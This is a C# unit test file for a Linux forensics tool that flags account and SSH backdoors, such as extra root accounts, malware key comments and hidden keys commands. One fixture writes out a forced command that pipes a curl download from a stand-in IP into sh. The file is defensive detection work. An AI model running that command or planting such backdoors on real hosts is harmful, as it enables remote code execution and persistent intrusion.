using Forensics.Analyzer.Risk;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

public sealed class AccessTests
{
    private static Finding Only(Case host, string rule) => Assert.Single(host.Judge(), finding => finding.Rule.Id == rule);

    private static Case Stock() => Case.Debian().User("root", 0).User("daemon", 1, "/usr/sbin/nologin").User("sync", 4, "/bin/sync", gid: 65534).User("www-data", 33, "/usr/sbin/nologin", "/var/www")
        .User("postgres", 110, "/bin/bash", "/var/lib/postgresql").User("alice", 1000).Shadow("root", "yescrypt").Shadow("daemon", "locked", true).Shadow("postgres", "locked", true).Shadow("alice", "yescrypt");

    [Fact]
    public void Stock_accounts_are_silent() => Assert.Empty(Stock().Judge());

    [Fact]
    public void A_second_uid_0_is_critical_and_its_cleanup_keeps_root_alive()
    {
        Finding finding = Only(Stock().User("sysadm", 0, password: "$1$x$yyyyyyyyyyyyyyyyyyyyyy"), "L-ACC-UID0.second-root");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.DoesNotContain(finding.Remediation, step => step.Contains("userdel", StringComparison.Ordinal));
    }

    [Fact]
    public void A_hash_in_passwd_an_empty_password_and_an_old_hash_are_told()
    {
        Assert.Equal(Severity.High, Only(Stock().User("old", 1001, password: "$1$abcdefgh$0123456789abcdefghijkl"), "L-ACC-HASH.hash-in-passwd").Severity);
        Assert.Equal(Severity.High, Only(Stock().User("guest", 1001).Shadow("guest", "none"), "L-ACC-HASH.empty-password").Severity);
        Assert.Equal(Severity.Medium, Only(Stock().User("hilde", 1001).Shadow("hilde", "des"), "L-ACC-HASH.weaker-hash").Severity);
    }

    [Theory]
    [InlineData("locked", true)]
    [InlineData("yescrypt", false)]
    public void Locked_and_ordinary_passwords_are_silent(string hash, bool locked) => Assert.Empty(Stock().User("bob", 1001).Shadow("bob", hash, locked).Judge());

    [Fact]
    public void A_service_account_that_can_log_in_is_graded_by_what_it_is()
    {
        Assert.Equal(Severity.Critical, Only(Case.Debian().User("root", 0).User("games", 5, "/bin/bash", "/usr/games").Shadow("games", "sha512"), "L-ACC-SYS.service-account-login").Severity);
        Assert.Equal(Severity.Low, Only(Stock().Key("/var/lib/postgresql/.ssh/authorized_keys", owner: 110), "L-ACC-SYS.service-account-login").Severity);
        Assert.Empty(Case.Debian().User("git", 998, "/usr/bin/git-shell", "/srv/git").Judge());
    }

    [Fact]
    public void A_shell_with_a_trailing_blank_is_critical_and_quoted_in_the_cleanup()
    {
        Finding finding = Only(Case.Debian().User("news", 9, "/usr/sbin/nologin ", "/var/spool/news"), "L-ACC-SYS.lookalike-shell");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("rm '/usr/sbin/nologin '", finding.Remediation);
    }

    [Fact]
    public void What_the_last_change_added_is_listed()
    {
        Finding finding = Only(Stock().User("root", 0, previous: true).User("alice", 1000, previous: true).User("daemon", 1, previous: true).User("sync", 4, previous: true)
            .User("www-data", 33, previous: true).User("postgres", 110, previous: true).User("bob2", 1001), "L-ACC-NEW.since-last-change");
        Assert.Equal(Severity.Info, finding.Severity);
        Assert.Contains("bob2", finding.Message);
    }

    [Fact]
    public void A_web_server_account_in_sudo_is_high_and_the_cloud_user_there_is_silent()
    {
        Case bad = Stock();
        bad.Add(new UserGroup(bad.At("/etc/group", 1)) { Name = "sudo", GroupId = 27, Members = ["alice", "www-data"] });
        Assert.Equal(Severity.High, Assert.Single(bad.Judge()).Severity);
        Case good = Stock();
        good.Add(new UserGroup(good.At("/etc/group", 1)) { Name = "sudo", GroupId = 27, Members = ["alice"] }, new UserGroup(good.At("/etc/group", 2)) { Name = "adm", GroupId = 4, Members = ["syslog", "alice"] });
        Assert.Empty(good.Judge());
    }

    [Fact]
    public void Every_key_is_listed_with_its_fingerprint()
    {
        Finding finding = Only(Stock().Key("/home/alice/.ssh/authorized_keys", owner: 1000), "L-SSH-KEYS.key");
        Assert.Equal(Severity.Info, finding.Severity);
        Assert.Contains("SHA256:aaa", finding.Message);
        Assert.Contains("alice", finding.Message);
    }

    [Fact]
    public void Keys_of_known_malware_locked_files_and_keys_shared_with_root_are_told()
    {
        Assert.Equal(Severity.Critical, Only(Stock().Key("/root/.ssh/authorized_keys", "mdrfckr"), "L-SSH-KEYS.known-bad-comment").Severity);
        Finding locked = Only(Stock().Key("/root/.ssh/authorized_keys", flags: 0x80010), "L-SSH-KEYS.locked-file");
        Assert.Equal(Severity.Medium, locked.Severity);
        Assert.Equal("chattr -ia /root/.ssh/authorized_keys", locked.Remediation[0]);
        Assert.DoesNotContain(locked.Remediation, step => step.StartsWith("sed", StringComparison.Ordinal));
        Assert.Equal(2, Stock().Key("/root/.ssh/authorized_keys").Key("/home/alice/.ssh/authorized_keys", owner: 1000).Judge().Count(finding => finding.Rule.Id == "L-SSH-KEYS.shared-with-root"));
        Assert.Equal(Severity.Medium, Only(Stock().Key("/var/www/.ssh/authorized_keys"), "L-SSH-KEYS.account-without-shell").Severity);
    }

    [Theory]
    [InlineData("echo 'Please login as the user \"ubuntu\" rather than the user \"root\".';echo;sleep 10;exit 142")]
    [InlineData("/usr/bin/rrsync -ro /srv/backup")]
    [InlineData("/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-17")]
    public void Honest_forced_commands_are_silent(string command) =>
        Assert.DoesNotContain(Stock().Key("/root/.ssh/authorized_keys", forced: command).Key("/home/alice/.ssh/authorized_keys", owner: 1000, print: "SHA256:other").Judge(), finding => finding.Severity > Severity.Info);

    [Fact]
    public void A_forced_command_with_a_download_is_critical() =>
        Assert.Equal(Severity.Critical, Only(Stock().Key("/root/.ssh/authorized_keys", forced: "curl http://203.0.113.9/x|sh"), "L-SSH-KEYS.download-pipe-shell").Severity);

    private static Case Sshd(Case host, params (string File, string Keyword, string Value)[] options)
    {
        int line = 0;
        foreach ((string file, string keyword, string value) in options)
        {
            host.Add(new SshServerOption(host.At(file, ++line)) { Keyword = keyword, Arguments = value.Split(' ') });
        }
        return host;
    }

    private const string Main = "/etc/ssh/sshd_config";

    [Fact]
    public void The_first_value_of_an_option_wins_includes_in_place()
    {
        Case open = Sshd(Case.Debian(), (Main, "Include", "sshd_config.d/*.conf"), (Main, "PermitRootLogin", "no"), ("/etc/ssh/sshd_config.d/50-x.conf", "PermitRootLogin", "yes"));
        Finding finding = Only(open, "L-SSHD.root-password-login");
        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.Equal("/etc/ssh/sshd_config.d/50-x.conf", finding.Location.Path);
        Assert.Empty(Sshd(Case.Debian(), (Main, "PermitRootLogin", "no"), (Main, "Include", "/etc/ssh/sshd_config.d/*.conf"), ("/etc/ssh/sshd_config.d/50-x.conf", "PermitRootLogin", "yes")).Judge());
    }

    [Fact]
    public void Doors_and_programs_of_sshd_are_judged_and_vendor_settings_are_not()
    {
        Assert.Equal(Severity.High, Only(Sshd(Case.Debian(), (Main, "PermitEmptyPasswords", "yes")), "L-SSHD.empty-passwords").Severity);
        Assert.Equal(Severity.High, Only(Sshd(Case.Debian(), (Main, "AuthorizedKeysCommand", "/usr/lib/.ak %u")), "L-SSHD.keys-command").Severity);
        Assert.Empty(Sshd(Case.Debian(), (Main, "AuthorizedKeysCommand", "/usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f"), (Main, "Subsystem", "sftp /usr/lib/openssh/sftp-server"),
            (Main, "AuthorizedKeysFile", ".ssh/authorized_keys"), (Main, "PasswordAuthentication", "yes"), (Main, "PermitRootLogin", "prohibit-password")).Judge());
        Assert.Equal(Severity.Low, Sshd(Case.Rhel("8"), (Main, "PermitRootLogin", "yes"), (Main, "PasswordAuthentication", "yes")).Worst());
    }
}
